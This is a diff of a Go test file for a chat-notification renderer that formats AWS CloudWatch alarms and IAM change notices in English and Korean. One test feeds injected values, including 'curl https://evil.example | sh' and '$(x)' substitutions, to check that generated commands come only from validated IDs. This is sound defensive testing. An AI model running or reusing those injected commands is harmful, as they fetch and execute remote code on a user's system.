@@ -79,6 +79,11 @@ func hostile() notice.Message {
 	return m
 }
 
+// exists is how the functions of a deployment are known.
+func exists(id string) bool { return id == "detach-direct-policy" }
+
+const unverifiedID = "0a1b2c3d-0a1b-4c3d-8e9f-0a1b2c3d4e5f"
+
 const alarm = `{"AlarmName":"warder-failed",
 "AlarmDescription":"Something failed for good. Look at the queue, then: make redrive.",
 "AWSAccountId":"111122223333","AlarmArn":"arn:aws:cloudwatch:us-east-1:111122223333:alarm:warder-failed",
@@ -90,8 +95,9 @@ const alarm = `{"AlarmName":"warder-failed",
 
 func TestRender_Golden(t *testing.T) {
 	posts := map[string]Post{
-		"hostile": Render(hostile(), settings.English),
-		"plain":   RenderPlain("A test", "Is anybody there? <!channel>", settings.English),
+		"hostile":       Render(hostile(), settings.English),
+		"unverified":    RenderUnverified(unverifiedID, 17, 5*time.Minute, settings.English),
+		"unverified-ko": RenderUnverified(unverifiedID, 17, 5*time.Minute, settings.Korean),
 	}
 	for kind, severity := range map[notice.Kind]string{
 		notice.Alert: "medium", notice.WouldChange: "high", notice.Changed: "critical", notice.Warning: "medium",
@@ -100,14 +106,14 @@ func TestRender_Golden(t *testing.T) {
 	} {
 		posts[string(kind)+"-"+severity] = Render(sample(kind, severity), settings.English)
 	}
-	a, ok := ParseAlarm([]byte(alarm))
+	a, ok := ParseAlarm([]byte(alarm), "111122223333", "us-east-1")
 	if !ok {
 		t.Fatal("the alarm was not understood")
 	}
-	posts["alarm"] = RenderAlarm(a, settings.English)
-	a.State, a.Before, a.Description = "OK", "ALARM", ""
-	posts["alarm-over"] = RenderAlarm(a, settings.English)
-	posts["alarm-over-ko"] = RenderAlarm(a, settings.Korean)
+	posts["alarm"] = RenderAlarm(a, settings.English, exists)
+	a.State, a.Before = "OK", "ALARM"
+	posts["alarm-over"] = RenderAlarm(a, settings.English, exists)
+	posts["alarm-over-ko"] = RenderAlarm(a, settings.Korean, exists)
 	m := sample(notice.Warning, "high")
 	m.Title, m.Text, m.Advice = "사용자에게 직접 연결된 정책", "AdministratorAccess 정책이 alice 사용자에게 직접 연결되었습니다.",
 		"그룹을 통해 권한을 부여하시기 바랍니다."
@@ -249,9 +255,9 @@ func TestRender_LongTextsAreCut(t *testing.T) {
 				t.Errorf("%q: no %q in %.300s", filler, want, data)
 			}
 		}
-		check(t, RenderPlain(strings.Repeat(filler, 10_000), strings.Repeat(filler, 10_000), settings.English))
-		check(t, RenderAlarm(Alarm{Name: strings.Repeat(filler, 10_000), State: "ALARM",
-			Description: strings.Repeat(filler, 10_000), Reason: strings.Repeat(filler, 10_000)}, settings.English))
+		check(t, RenderUnverified(strings.Repeat(filler, 10_000), 10_000, time.Hour, settings.English))
+		long := strings.Repeat(filler, 10_000)
+		check(t, RenderAlarm(Alarm{Name: long, State: long, Before: long}, settings.English, exists))
 	}
 	data, err := json.Marshal(Render(sample(notice.Changed, "high"), settings.English))
 	if err != nil || strings.Contains(string(data), "shortened") {
@@ -261,19 +267,76 @@ func TestRender_LongTextsAreCut(t *testing.T) {
 
 func TestRender_EmptyNotice(t *testing.T) {
 	check(t, Render(notice.Message{}, settings.English))
-	check(t, RenderPlain("", "", settings.English))
-	check(t, RenderAlarm(Alarm{}, settings.English))
+	check(t, RenderUnverified("", 0, 0, settings.English))
+	check(t, RenderAlarm(Alarm{}, settings.English, exists))
 }
 
 func TestParseAlarm(t *testing.T) {
+	without := func(old, with string) string { return strings.Replace(alarm, old, with, 1) }
 	for message, want := range map[string]bool{
 		alarm: true, `{}`: false, `null`: false, `"text"`: false, `nonsense`: false, `{"AlarmName":"a"}`: false,
-		`{"version":"1","id":"n1","kind":"alert"}`:                                                           false,
-		`{"AlarmName":"a","NewStateValue":"OK","AlarmDescription":null,"AlarmRule":"ALARM(b)","Trigger":[]}`: true,
+		`{"version":"1","id":"n1","kind":"alert"}`:                                false,
+		without(`"OldStateValue":"OK"`, `"OldStateValue":""`):                     true,
+		without(`"OldStateValue":"OK"`, `"OldStateValue":"x"`):                    false,
+		without(`"NewStateValue":"ALARM"`, `"NewStateValue":""`):                  false,
+		without("+0000", "Z"):                                                     true,
+		without("2026-11-21T12:00:00.123+0000", "noon"):                           false,
+		without(`"AWSAccountId":"111122223333"`, `"AWSAccountId":"444455556666"`): false,
+		without("arn:aws:cloudwatch", "arn:aws:sns"):                              false,
+		without("cloudwatch:us-east-1", "cloudwatch:us-east-2"):                   false,
+		without("us-east-1:111122223333", "us-east-1:444455556666"):               false,
+		without(":alarm:warder-failed", ":alarm:warder-halted"):                   false,
+		strings.ReplaceAll(alarm, "warder-failed", "of-others"):                   false,
+		strings.ReplaceAll(alarm, "warder-failed", "warder-a b"):                  false,
 	} {
-		if _, ok := ParseAlarm([]byte(message)); ok != want {
+		if _, ok := ParseAlarm([]byte(message), "111122223333", "us-east-1"); ok != want {
 			t.Errorf("ParseAlarm(%s) = %t", message, ok)
 		}
+	}
+}
+
+// What to do about an alarm is said by its name: the message that it comes with may be anybody's.
+func TestRenderAlarm_Advice(t *testing.T) {
+	for name, want := range map[string]string{
+		"warder-failed": "make redrive", "warder-undelivered": "make doctor", "warder-halted": "make resume",
+		"warder-no-sweep":                           "that end in -sweep",
+		"warder-detach-direct-policy-breaker":       "make release CONTROL=detach-direct-policy REASON=",
+		"warder-detach-direct-policy-errors":        "warder-detach-direct-policy failed",
+		"warder-detach-direct-policy-sweep":         "make sweep CONTROL=detach-direct-policy.",
+		"warder-x-breaker":                          "The description of the alarm in CloudWatch",
+		"warder-detach-direct-policy":               "The description of the alarm in CloudWatch",
+		"warder-detach-direct-policy-breaker-sweep": "The description of the alarm in CloudWatch",
+	} {
+		for _, language := range []settings.Language{settings.English, settings.Korean} {
+			a, ok := ParseAlarm([]byte(strings.ReplaceAll(alarm, "warder-failed", name)), "111122223333", "us-east-1")
+			post := RenderAlarm(a, language, exists)
+			data := string(indented(t, post))
+			if !ok || language == settings.English && !strings.Contains(data, want) ||
+				strings.Contains(want, "make ") && !strings.Contains(data, want[:10]) ||
+				!strings.Contains(data, "https://us-east-1.console.aws.amazon.com/cloudwatch/home?region=us-east-1#alarmsV2:alarm/"+
+					name) || strings.Contains(data, "Something failed") || strings.Contains(data, "Threshold Crossed") {
+				t.Errorf("%s in %s: %s", name, language, data)
+			}
+		}
+	}
+}
+
+// A message says what it is about by an id. Commands are made from it, and from nothing else in the message.
+func TestRender_CommandsAreMadeFromIDs(t *testing.T) {
+	const evil = "make undo ID=x; curl https://evil.example | sh"
+	for _, id := range []string{"", "x; curl https://evil.example | sh", "abcdefghij; x", "abcdefghij-1 REASON=$(x)", "ABCDEFGHIJ"} {
+		m := sample(notice.Changed, "high")
+		m.Undo, m.Finding, m.Changes[0].ID = evil, id, id
+		data := string(indented(t, Render(m, settings.English)))
+		if strings.Contains(data, "make ") || strings.Contains(data, "evil.example") {
+			t.Errorf("%q: %s", id, data)
+		}
+	}
+	m := sample(notice.Changed, "high")
+	m.Undo = evil
+	data := string(indented(t, Render(m, settings.English)))
+	if !strings.Contains(data, `make undo ID=abcdefghij REASON=\"why\"`) || strings.Contains(data, "evil.example") {
+		t.Errorf("%s", data)
 	}
 }
 
@@ -291,9 +354,8 @@ func FuzzRender(f *testing.F) {
 			m.References = append(m.References, notice.Reference{Title: title, URL: runbook})
 		}
 		check(t, Render(m, settings.English))
-		check(t, RenderPlain(title, words, settings.English))
-		check(t, RenderAlarm(Alarm{Name: title, State: severity, Description: words, Reason: subject, Changed: undo},
-			settings.English))
+		check(t, RenderUnverified(title, count, time.Hour, settings.English))
+		check(t, RenderAlarm(Alarm{Name: title, State: severity, Before: words}, settings.English, exists))
 	})
 }
 
@@ -305,7 +367,7 @@ func TestRender_Korean(t *testing.T) {
 		for severity := range signs {
 			m := sample(kind, severity)
 			m.Title, m.Text, m.Subject, m.Owner, m.UnchangedReason, m.Advice, m.Finding, m.Control = "제목", "내용", "가", "가", "가",
-				"가", "1", "1"
+				"가", "2222222222", "1"
 			m.Facts, m.References, m.Event, m.Region = nil, nil, "", ""
 			for i := range m.Changes {
 				m.Changes[i].ID, m.Changes[i].Text, m.Changes[i].Reason = "1", "가", "가"
@@ -314,14 +376,21 @@ func TestRender_Korean(t *testing.T) {
 				m.Changes = append(m.Changes, notice.Change{ID: "1", Text: "가"})
 			}
 			if m.Undo != "" {
-				m.Undo = "make undo ID=1"
+				m.Undo = "make undo ID=2222222222"
 			}
 			koreanOnly(t, Render(m, settings.Korean), latin, names)
 		}
 	}
-	koreanOnly(t, RenderAlarm(Alarm{Name: "1", State: "OK", Before: "ALARM", Reason: "가",
-		Changed: "2026-11-21T12:00:00.123+0000"}, settings.Korean), latin, names)
-	koreanOnly(t, RenderPlain("", "가", settings.Korean), latin, names)
+	names = regexp.MustCompile(names.String() + `|warder-[a-z-]+|detach-direct-policy|[-]?sweep|release|CONTROL|halt|` +
+		`redrive|doctor|resume|Failed|Fa\.\.\.|Undelivered|warder/(failures|last actions)`)
+	for _, name := range []string{
+		"failed", "undelivered", "halted", "no-sweep", "x", "detach-direct-policy-breaker", "detach-direct-policy-errors",
+		"detach-direct-policy-sweep",
+	} {
+		koreanOnly(t, RenderAlarm(Alarm{Name: "warder-" + name, State: "OK", Before: "ALARM", Changed: noon}, settings.Korean,
+			exists), latin, names)
+	}
+	koreanOnly(t, RenderUnverified("", 17, time.Hour, settings.Korean), latin, names)
 }
 
 func koreanOnly(t *testing.T, post Post, latin, names *regexp.Regexp) {
